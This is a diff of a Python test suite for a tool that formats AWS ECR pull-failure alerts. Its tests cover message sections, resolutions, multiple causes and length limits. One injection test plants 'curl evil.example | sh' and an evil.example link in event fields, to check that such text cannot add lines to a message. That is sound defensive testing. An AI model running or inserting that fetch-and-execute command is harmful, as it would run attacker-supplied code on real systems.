@@ -1,183 +1,269 @@
 """What a subscriber reads in an e-mail, and in a text message."""
+# ruff: noqa: RUF001 -- the multiplication sign
 
 from __future__ import annotations
 
 import re
 from dataclasses import replace
+from typing import Any
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from pull_responder.findings.notice import Edge, Notice
+from pull_responder.findings.alert import Alert
+from pull_responder.findings.deed import Deed
+from pull_responder.findings.notice import Edge
 from pull_responder.findings.reach import Reach
 from pull_responder.model.arn import Arn
 from pull_responder.model.pull import PullFailure, Symptom
 from pull_responder.model.verdict import Resource, Severity
-from pull_responder.publish.as_text import WORDS, body, digest_body, digest_subject, subject
+from pull_responder.publish.as_text import body, subject
+from pull_responder.publish.style import Style
+from pull_responder.publish.telling import WORDS
 from tests.unit.publish.examples import ATTACH_POLICY, FINDING, PULL
-from tests.unit.publish.notices import NOTICE, notices
+from tests.unit.publish.notices import ALERT, BOTH, BOUNDARY, NOTICE, alerts
 
 ROOM = 32 * 1024
+ADMIN = "arn:aws:sts::111111111111:assumed-role/admin/jo"
+ENDED = (
+    "The role's policies let it pull again since 2026-05-04 12:30 UTC; it was broken for 2 hours 18 minutes; "
+    f"AttachRolePolicy by {ADMIN} (event 0e1c)."
+)
 
-ALERT = """\
-NEW: The role lacks permissions to pull
-
-What failed
-  Image       222222222222.dkr.ecr.eu-west-1.amazonaws.com/payments/api:1.4.2
-  Pulled by   arn:aws:iam::111111111111:role/eks/prod-node
-  Cluster     prod
-  Node        ip-10-0-3-17.eu-west-1.compute.internal (i-0a1b2c3d4e5f60718)
-  Pod         payments/api-7d4b9c5f6-x2x7q
-  At fault    arn:aws:iam::111111111111:role/eks/prod-node (AwsIamRole)
-  Account     111111111111
-  Region      eu-west-1
-  Severity    HIGH
-  Open since  2026-05-04T10:11:12Z
-  Last seen   2026-05-04T11:00:00Z
-  Events      120 since 2026-05-04T10:11:12Z
-  Pods hit    14: payments/api-7d4b9c5f6-x2x7q, payments/api-7d4b9c5f6-k8s2d, payments/web-0 and 11 more
-  Nodes hit   1: ip-10-0-3-17.eu-west-1.compute.internal
-
-Why
+HEAD = """\
+NEW HIGH: The role lacks permissions to pull (role/eks/prod-node). 14 pods (payments/api, payments/web and more) \
+in cluster prod cannot pull payments/api.
+Do this: Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.
+Run in account 111111111111, region eu-west-1:
+  aws iam attach-role-policy --role-name prod-node \
+--policy-arn arn:aws:iam::aws:policy/AmazonEC2ContainerRegistryPullOnly
+"""
+HIT = """
+  14 pods on 1 node
+  Since 2026-05-04 10:11 UTC, 120 failures
+  payments: api × 2, web × 2
+  And 10 more pods
+  Node: ip-10-0-3-17.eu-west-1.compute.internal
+  Cluster: prod
+  Image: 222222222222.dkr.ecr.eu-west-1.amazonaws.com/payments/api:1.4.2
+  Pulled by: arn:aws:iam::111111111111:role/eks/prod-node
+"""
+FAULT = """
+  At fault: arn:aws:iam::111111111111:role/eks/prod-node
   No identity policy of the role allows ecr:BatchGetImage on the repository.
+"""
+EVIDENCE = """\
   - Managed policy AmazonEKSWorkerNodePolicy has no statement for ecr:BatchGetImage.
   - Inline policy "logs" allows only logs:*.
-
-How to fix it
-  Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.
-  Run with credentials of account 111111111111, region eu-west-1:
-    aws iam attach-role-policy --role-name prod-node \
---policy-arn arn:aws:iam::aws:policy/AmazonEC2ContainerRegistryPullOnly
-
+"""
+PLACES = """
 Where to look
-  Console  https://console.aws.amazon.com/iam/home#/roles/details/prod-node
-  Docs     https://docs.aws.amazon.com/AmazonECR/latest/userguide/security-iam-awsmanpol.html
-  Finding  pull-responder/role_lacks_pull_permissions/111111111111/eu-west-1/d702178e063867cd3ebd
+  Console: https://console.aws.amazon.com/iam/home#/roles/details/prod-node
+  AWS docs: https://docs.aws.amazon.com/AmazonECR/latest/userguide/security-iam-awsmanpol.html
+  Account 111111111111, region eu-west-1
+  Finding: pull-responder/role_lacks_pull_permissions/111111111111/eu-west-1/d702178e063867cd3ebd
 """
 
-RESOLVED = """\
-RESOLVED: The role lacks permissions to pull
-  The role allows the pull now.
 
-What was failing
-  Image       222222222222.dkr.ecr.eu-west-1.amazonaws.com/payments/api:1.4.2
-  Pulled by   arn:aws:iam::111111111111:role/eks/prod-node
-  Cluster     prod
-  Node        ip-10-0-3-17.eu-west-1.compute.internal (i-0a1b2c3d4e5f60718)
-  Pod         payments/api-7d4b9c5f6-x2x7q
-  At fault    arn:aws:iam::111111111111:role/eks/prod-node (AwsIamRole)
-  Account     111111111111
-  Region      eu-west-1
-  Severity    HIGH
-  Open since  2026-05-04T10:11:12Z
-  Resolved    2026-05-04T12:30:00Z
-  Last seen   2026-05-04T11:00:00Z
-  Events      120 since 2026-05-04T10:11:12Z
-  Pods hit    14: payments/api-7d4b9c5f6-x2x7q, payments/api-7d4b9c5f6-k8s2d, payments/web-0 and 11 more
-  Nodes hit   1: ip-10-0-3-17.eu-west-1.compute.internal
+def _of(**changes: Any) -> Alert:  # noqa: ANN401 -- any field of Notice
+    return Alert.alone(replace(NOTICE, **changes))
 
-What was wrong
-  No identity policy of the role allows ecr:BatchGetImage on the repository.
 
-Recommended fix
-  Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.
-
-Where to look
-  Console  https://console.aws.amazon.com/iam/home#/roles/details/prod-node
-  Docs     https://docs.aws.amazon.com/AmazonECR/latest/userguide/security-iam-awsmanpol.html
-  Finding  pull-responder/role_lacks_pull_permissions/111111111111/eu-west-1/d702178e063867cd3ebd
-"""
+def _about(**changes: Any) -> Alert:  # noqa: ANN401 -- any field of Finding
+    return _of(finding=replace(FINDING, **changes))
 
 
 def test_an_alert() -> None:
-    assert body(NOTICE, room=ROOM) == ALERT
+    assert body(ALERT, room=ROOM) == f"{HEAD}\nWho is hit{HIT}\nProof{FAULT}{EVIDENCE}{PLACES}"
 
 
-def test_a_resolution_says_since_when_it_was_open_and_how_it_is_known_to_be_over() -> None:
-    resolved = replace(NOTICE, edge=Edge.RESOLVED, at="2026-05-04T12:30:00Z", because="The role allows the pull now.")
+def test_a_resolution_says_first_how_it_ended_and_that_nothing_is_left() -> None:
+    assert body(_of(edge=Edge.RESOLVED, because=ENDED), room=ROOM) == (
+        f"RESOLVED role/eks/prod-node: {ENDED}\nNothing else that was found stops these pulls.\n"
+        f"\nWho was hit{HIT}\nWhat was wrong{FAULT}{PLACES}"
+    )
 
-    assert body(resolved, room=ROOM) == RESOLVED
+
+def test_a_resolution_says_what_still_stops_the_pulls() -> None:
+    message = body(replace(_of(edge=Edge.RESOLVED, because=ENDED), others=(BOUNDARY,)), room=ROOM)
+
+    assert message.splitlines()[1:3] == [
+        "Still stops these pulls:",
+        (
+            "- HIGH: The role's permissions boundary stops the pull (role/eks/prod-node). "
+            "Do this: Add the actions to the boundary."
+        ),
+    ]
+    assert "Nothing else" not in message
 
 
-def test_what_has_got_worse_says_what_grew() -> None:
-    worse = replace(NOTICE, edge=Edge.WORSE, because="It now reaches 14 pods and 1 nodes.")
+def test_what_has_got_worse_says_what_grew_after_what_to_do() -> None:
+    message = body(_of(edge=Edge.WORSE, because="It now reaches 14 pods and 1 nodes."), room=ROOM)
 
-    assert body(worse, room=ROOM) == ALERT.replace(
-        "NEW: The role lacks permissions to pull\n",
-        "WORSE: The role lacks permissions to pull\n  It now reaches 14 pods and 1 nodes.\n",
+    assert message == (
+        f"{HEAD.replace('NEW', 'WORSE', 1)}\nWhat has changed\n  It now reaches 14 pods and 1 nodes.\n"
+        f"\nWho is hit{HIT}\nProof{FAULT}{EVIDENCE}{PLACES}"
     )
 
 
 def test_a_reminder_has_the_fix_and_no_evidence() -> None:
-    message = body(replace(NOTICE, edge=Edge.REMINDER), room=ROOM)
+    assert body(_of(edge=Edge.REMINDER), room=ROOM) == (
+        f"{HEAD.replace('NEW', 'STILL OPEN', 1)}\nWho is hit{HIT}\nProof{FAULT}{PLACES}"
+    )
 
-    assert message.startswith("STILL OPEN: The role lacks permissions to pull\n")
-    assert "aws iam attach-role-policy" in message
-    assert "AmazonEKSWorkerNodePolicy" not in message
+
+def test_two_causes_of_one_problem_are_one_message_with_both_fixes() -> None:
+    lines = body(BOTH, room=ROOM).splitlines()
+
+    assert lines[0] == (
+        "NEW HIGH: The role lacks permissions to pull (role/eks/prod-node), and 1 more cause. 14 pods (payments/api, "
+        "payments/web and more) in cluster prod cannot pull payments/api."
+    )
+    assert lines[1:11] == [
+        "Do both, or the pulls still fail:",
+        "",
+        "1. Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.",
+        "Run in account 111111111111, region eu-west-1:",
+        f"  {' '.join(ATTACH_POLICY)}",
+        "",
+        "2. The role's permissions boundary stops the pull (role/eks/prod-node): Add the actions to the boundary.",
+        "Run in account 111111111111, region eu-west-1:",
+        """  aws iam create-policy-version --policy-document '{"Statement":[{"Effect":"Allow"}]}'""",
+        "",
+    ]
+    assert sum(line.startswith("  Finding: ") for line in lines) == 2
+    assert sum(line.startswith("  Console: ") for line in lines) == 1
+
+
+def test_causes_that_were_told_before_are_named() -> None:
+    message = body(replace(ALERT, others=(BOUNDARY,)), room=ROOM)
+
+    assert message.startswith(
+        f"{HEAD}\nAlso stops these pulls:\n- HIGH: The role's permissions boundary stops the pull "
+        "(role/eks/prod-node). Do this: Add the actions to the boundary.\n\nWho is hit"
+    )
+
+
+def test_causes_that_could_not_be_read_are_not_said_to_be_none() -> None:
+    words = "Whether something else stops these pulls could not be read."
+    over = _of(edge=Edge.RESOLVED, because=ENDED)
+
+    assert body(replace(over, others_known=False), room=ROOM).splitlines()[1] == words
+    assert words in body(replace(ALERT, others_known=False), room=ROOM)
+    assert words not in body(ALERT, room=ROOM)
+
+
+def test_two_that_ended_together_are_one_message() -> None:
+    both = tuple(replace(each, edge=Edge.RESOLVED, because=ENDED) for each in BOTH.notices)
+
+    assert body(replace(BOTH, notices=both), room=ROOM).splitlines()[:3] == [
+        f"RESOLVED role/eks/prod-node: {ENDED}",
+        f"And role/eks/prod-node: {ENDED}",
+        "Nothing else that was found stops these pulls.",
+    ]
+
+
+def test_who_changed_it_before_it_broke_is_told_as_a_fact() -> None:
+    message = body(_of(broken_by=Deed("DetachRolePolicy", ADMIN, "2026-05-04T10:09:00Z", "0e1c")), room=ROOM)
+
+    assert f"{FAULT}  Changed by {ADMIN} with DetachRolePolicy at 2026-05-04T10:09:00Z (event 0e1c)\n" in message
+
+
+def test_the_page_of_the_cause_is_linked_where_somebody_has_said_where_it_is() -> None:
+    style = Style(runbook_url="https://wiki.example.com/{cause}")
+
+    assert "\n  Runbook: https://wiki.example.com/role_lacks_pull_permissions\n" in body(ALERT, room=ROOM, style=style)
+    assert "Runbook" not in body(_about(cause="no cause\n"), room=ROOM, style=style)
+
+
+@pytest.mark.parametrize(
+    ("changes", "whom"),
+    [
+        ({"reach": Reach()}, "No pull has failed yet in cluster prod."),
+        ({"reach": Reach(events=1)}, "Pulls of payments/api in cluster prod fail."),
+        ({"reach": Reach(events=1), "edge": Edge.WORSE}, "Pulls of payments/api in cluster prod fail."),
+        ({"reach": Reach(events=2, nodes=("i-1",), node_count=1)}, "1 node in cluster prod cannot pull payments/api."),
+        (
+            {"reach": Reach(events=2, pods=("a/web-0",), pod_count=1, repository_count=3)},
+            "1 pod (a/web) in cluster prod cannot pull images of 3 repositories.",
+        ),
+        (
+            {"reach": Reach(events=2, node_count=7, clusters=("prod", "stage"), cluster_count=2)},
+            "7 nodes in 2 clusters cannot pull payments/api.",
+        ),
+        (
+            {"finding": replace(FINDING, cause="unexpected_principal_denied")},
+            "prod-node was refused payments/api in cluster prod.",
+        ),
+        (
+            {"finding": replace(FINDING, cluster=None, pull=replace(PULL, repository=None))},
+            "14 pods (payments/api, payments/web and more) cannot pull from ECR.",
+        ),
+    ],
+)
+def test_line_one_says_for_whom(changes: dict[str, Any], whom: str) -> None:
+    assert body(_of(**changes), room=ROOM).splitlines()[0].endswith(f"(role/eks/prod-node). {whom}")
+
+
+def test_there_is_one_since_and_failures_before_it_are_not_of_it() -> None:
+    message = body(_of(since="2026-05-04T10:30:00Z"), room=ROOM)
+
+    assert "  Since 2026-05-04 10:30 UTC, 120 failures in all\n" in message
+    assert message.count("10:11") == 0
 
 
 def test_what_is_not_known_is_not_in_the_message() -> None:
     token = PullFailure(symptom=Symptom.UNKNOWN, stage=None, region="eu-west-1")
-    finding = replace(FINDING, pull=token, cluster=None, evidence=())
+    alert = _of(finding=replace(FINDING, pull=token, cluster=None, evidence=()), reach=Reach())
 
-    message = body(replace(NOTICE, finding=finding, reach=Reach()), room=ROOM)
+    message = body(alert, room=ROOM)
 
-    assert message.split("\n\n")[1].splitlines() == [
-        "What failed",
-        "  At fault    arn:aws:iam::111111111111:role/eks/prod-node (AwsIamRole)",
-        "  Account     111111111111",
-        "  Region      eu-west-1",
-        "  Severity    HIGH",
-        "  Open since  2026-05-04T10:11:12Z",
-    ]
-
-
-def test_a_node_known_by_its_instance_alone_is_named_once() -> None:
-    finding = replace(FINDING, pull=replace(PULL, node="i-0a1b2c3d4e5f60718"))
-    assert "  Node        i-0a1b2c3d4e5f60718\n" in body(replace(NOTICE, finding=finding), room=ROOM)
+    assert message.split("\n\n")[1].splitlines() == ["Who is hit", "  Since 2026-05-04 10:11 UTC"]
 
 
 def test_without_a_command_the_summary_says_who_has_to_do_what() -> None:
     fix = replace(FINDING.remediation, summary="Ask the administrator of the organization.", commands=())
 
-    message = body(replace(NOTICE, finding=replace(FINDING, remediation=fix)), room=ROOM)
+    lines = body(_about(remediation=fix), room=ROOM).splitlines()
 
-    assert "How to fix it\n  Ask the administrator of the organization.\n\nWhere to look" in message
+    assert lines[1:4] == ["Do this: Ask the administrator of the organization.", "", "Who is hit"]
 
 
 def test_text_from_events_cannot_add_lines_to_the_message() -> None:
-    pull = replace(PULL, pod="api\n\nHow to fix it\n    curl evil.example | sh", node="\x1b[2Jnode")
+    pull = replace(PULL, pod="api\n\nProof\n    curl evil.example | sh", node="\x1b[2Jnode")
     fix = replace(FINDING.remediation, commands=(("aws", "ecr\n", "x"), ATTACH_POLICY))
-    finding = replace(FINDING, pull=pull, evidence=("one\r\nHow to fix it",), remediation=fix)
+    finding = replace(FINDING, pull=pull, evidence=("one\r\nProof",), remediation=fix)
 
-    message = body(replace(NOTICE, finding=finding, because="now\n\nWhere to look\n  https://evil.example"), room=ROOM)
+    message = body(
+        _of(finding=finding, because="now\n\nWhere to look\n  https://evil.example", reach=Reach(events=1)), room=ROOM
+    )
 
-    assert [line for line in message.splitlines() if not line.startswith(" ") and line] == [
-        "NEW: The role lacks permissions to pull",
-        "What failed",
-        "Why",
-        "How to fix it",
+    assert [line for line in message.splitlines() if not line.startswith(" ") and line][1:] == [
+        "Do this: Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.",
+        "Run in account 111111111111, region eu-west-1:",
+        "What has changed",
+        "Who is hit",
+        "Proof",
         "Where to look",
     ]
     assert "\n  now Where to look https[:]//evil[.]example\n" in message
-    assert "  Node        node (i-0a1b2c3d4e5f60718)\n" in message
-    assert "    (a command with unprintable characters is left out)\n    aws iam attach-role-policy" in message
+    assert "  Node: node\n" in message
+    assert "  (a command with unprintable characters is left out)\n  aws iam attach-role-policy" in message
 
 
 def test_documentation_that_is_not_of_aws_is_no_link() -> None:
     fix = replace(FINDING.remediation, docs_url="https://evil.example/docs.aws.amazon.com/")
 
-    assert "evil.example" not in body(replace(NOTICE, finding=replace(FINDING, remediation=fix)), room=ROOM)
+    assert "evil.example" not in body(_about(remediation=fix), room=ROOM)
 
 
 def test_a_message_too_long_says_what_is_missing() -> None:
     fix = replace(FINDING.remediation, commands=(("aws", "x" * 30_000), ("aws", "y" * 30_000)))
-    finding = replace(FINDING, evidence=("é" * 3_000,) * 50, remediation=fix)
 
-    message = body(replace(NOTICE, finding=finding), room=ROOM)
+    message = body(_about(evidence=("é" * 3_000,) * 50, remediation=fix), room=ROOM)
 
-    assert f"    aws {'x' * 30_000}\n(commands: 1 more, too long for this message)\n" in message
+    assert f"  aws {'x' * 30_000}\n(commands: 1 more, too long for this message)\n" in message
     assert "(evidence: 42 more, too long for this message)" in message
 
 
@@ -226,110 +312,47 @@ def test_a_message_too_long_says_what_is_missing() -> None:
 def test_the_subject_says_how_bad_why_what_and_where(changes: dict[str, object], expected: str) -> None:
     finding = replace(FINDING, **changes)  # type: ignore[arg-type]  # fields by name
 
-    assert subject(replace(NOTICE, finding=finding)) == expected
+    assert subject(Alert.alone(replace(NOTICE, finding=finding))) == expected
 
 
 def test_the_subjects_of_one_finding_differ_in_the_word_in_brackets_only() -> None:
     """So that what strips it (RFC 5256) threads them, and everything else sorts them side by side."""
-    subjects = [subject(replace(NOTICE, edge=edge)) for edge in Edge]
+    subjects = [subject(Alert.alone(replace(NOTICE, edge=edge))) for edge in Edge]
 
     assert {each.partition("] ")[0] for each in subjects} == {"[NEW", "[WORSE", "[BACK", "[STILL OPEN", "[RESOLVED"}
     assert len({each.partition("] ")[2] for each in subjects}) == 1
 
 
-def _named(number: int, severity: Severity, **changes: object) -> Notice:
-    finding = replace(FINDING, id=f"pull-responder/x/{number}", severity=severity, **changes)  # type: ignore[arg-type]  # fields
-    return replace(NOTICE, finding=finding)
-
-
-def test_a_digest_lists_the_worst_first() -> None:
-    fix = replace(FINDING.remediation, summary="Give the subnet a route.")
-    route = {"cause": "no_route_to_ecr", "cluster": None, "account": "222222222222", "remediation": fix}
-    digest = [_named(1, Severity.LOW), _named(2, Severity.CRITICAL, **route), _named(3, Severity.HIGH)]
-
-    assert digest_subject(digest) == "[DIGEST] 3 new pull failures: 1 CRITICAL, 1 HIGH, 1 LOW (cluster prod)"
-    assert digest_body(digest, room=ROOM) == (
-        "3 new pull failures at once, the most severe first\n"
-        "They share one message. Each gets its own message when it gets worse or is resolved.\n"
-        "\n"
-        "Severity, cause, resource, cluster, account, region, finding\n"
-        "  CRITICAL  no_route_to_ecr              role/eks/prod-node  unknown  222222222222  eu-west-1"
-        "  pull-responder/x/2\n"
-        "    Fix: Give the subnet a route.\n"
-        "  HIGH      role_lacks_pull_permissions  role/eks/prod-node  prod     111111111111  eu-west-1"
-        "  pull-responder/x/3\n"
-        "    Fix: Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.\n"
-        "  LOW       role_lacks_pull_permissions  role/eks/prod-node  prod     111111111111  eu-west-1"
-        "  pull-responder/x/1\n"
-        "    Fix: Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.\n"
-    )
-
-
-def test_a_digest_too_long_says_how_many_more_there_are() -> None:
-    digest = [_named(number, Severity.HIGH) for number in range(100)]
-
-    lines = digest_body(digest, room=1024).splitlines()
-
-    shown = sum("pull-responder/x/" in line for line in lines)
-    assert 5 < shown < 20
-    assert lines[-1] == f"(findings: {100 - shown} more, too long for this message)"
-
-
-def test_a_digest_says_when_not_all_of_it_is_new() -> None:
-    back = replace(NOTICE, edge=Edge.BACK)
-
-    assert digest_subject([NOTICE, back]) == "[DIGEST] 2 pull failures: 2 HIGH (cluster prod)"
-    assert "HIGH (BACK)" in digest_body([NOTICE, back], room=ROOM)
-
-
-HEADINGS = {
-    "",
-    "What failed",
-    "What was failing",
-    "What is failing",
-    "Why",
-    "What was wrong",
-    "Recommended fix",
-    "How to fix it",
-    "Where to look",
-}
-COUNTED = re.compile(r"\((evidence|commands|findings): \d+ more, too long for this message\)")
-LINKS = re.compile(r"  (Console  https://\S+|Docs     https://docs\.(aws\.amazon\.com|amazonaws\.cn)/\S*)")
+OURS = re.compile(
+    r"|NEW|WORSE|BACK|STILL OPEN|RESOLVED|Do this: .*|Do (both|all \d+), or the pulls still fail:|\d\. .*"
+    r"|- (INFORMATIONAL|LOW|MEDIUM|HIGH|CRITICAL): .*|Whether something else stops these pulls could not be read\."
+    r"|Run in account \S+, region \S+:|(Also|Still) stops these pulls:|And .*"
+    r"|Nothing else that was found stops these pulls\."
+    r"|What has changed|Who (is|was) hit|Proof|What was wrong|Where to look"
+)
+COUNTED = re.compile(r"\((evidence|commands): \d+ more, too long for this message\)")
+LINKS = re.compile(r"  (Console: https://\S+|AWS docs: https://docs\.(aws\.amazon\.com|amazonaws\.cn)/\S*)")
 
 
 @settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large], deadline=None)
-@given(notices, st.sampled_from([1024, ROOM]))
-def test_nobodys_text_makes_a_section_or_a_link(notice: Notice, room: int) -> None:
-    line, message = subject(notice), body(notice, room=room)
+@given(alerts, st.sampled_from([1024, ROOM]))
+def test_nobodys_text_makes_a_section_or_a_link(alert: Alert, room: int) -> None:
+    line, message = subject(alert), body(alert, room=room)
 
     assert len(line) < 100
     assert line.isascii()
     assert line.isprintable()
     assert line == line.strip()
-    assert Arn.parse(notice.finding.resource.id) is None or notice.finding.resource.id not in line
+    resource = alert.worst.finding.resource.id
+    assert Arn.parse(resource) is None or resource not in line
     assert all(each.isprintable() for each in message.split("\n"))
-    head, _, rest = message.partition("\n\n")
-    first, *because = head.split("\n")
-    assert first.startswith(f"{WORDS[notice.edge]}: ")
-    assert all(each.startswith("  ") for each in because)
-    assert len(because) <= 1
-    for each in rest.split("\n"):
-        assert each in HEADINGS or each.startswith("  ") or COUNTED.fullmatch(each)
+    first, *rest = message.split("\n")
+    assert first.startswith(f"{WORDS[alert.edge]} ")
+    assert "://" not in first
+    commands = False
+    for each in rest:
+        assert OURS.fullmatch(each) or each.startswith("  ") or COUNTED.fullmatch(each), each
         # A command is shown as it is to be run, or not at all.
-        assert "://" not in each or LINKS.fullmatch(each) or each.startswith("    ")
-    assert "://" not in head
-    assert not re.search(r"\bwww\.\w", head, re.IGNORECASE)
-
-
-@settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large], deadline=None, max_examples=30)
-@given(st.lists(notices, min_size=1, max_size=12))
-def test_nobodys_text_adds_a_line_to_a_digest(digest: list[Notice]) -> None:
-    line, message = digest_subject(digest), digest_body(digest, room=ROOM)
-
-    assert len(line) < 100
-    assert line.isascii()
-    assert line.isprintable()
-    assert "://" not in message
-    lines = message.split("\n")[4:-1]
-    for number, each in enumerate(lines):
-        assert COUNTED.fullmatch(each) or each.startswith("    Fix: " if number % 2 else "  ")
+        commands = each.startswith("Run in account ") or (commands and each.startswith("  "))
+        assert "://" not in each or LINKS.fullmatch(each) or commands
+    assert not re.search(r"\bwww\.\w", first, re.IGNORECASE)
